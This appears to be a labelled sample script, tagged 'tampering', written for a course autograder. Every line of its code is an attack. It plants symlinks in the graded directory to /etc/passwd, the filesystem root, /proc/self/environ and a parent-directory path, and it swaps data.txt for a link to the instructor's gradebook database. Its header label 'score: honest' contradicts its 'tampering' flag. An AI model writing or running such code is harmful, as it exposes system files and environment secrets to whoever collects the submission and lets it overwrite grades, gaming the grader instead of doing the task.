"""Leave links to files of the machine, which whoever collects the files may follow."""
# gains: the machine's files in the autograded directory, or the instructor's overwritten
# score: honest
# flag: tampering
# %%
import os

os.symlink("/etc/passwd", "passwd.txt")
os.symlink("/", "machine")
os.symlink("../../../../tiny", "course")
os.symlink("/proc/self/environ", "environment.txt")
os.remove("data.txt")
os.symlink("../gradebook.db", "data.txt")
open("one.txt", "w").write("x")
os.link("one.txt", "two.txt")
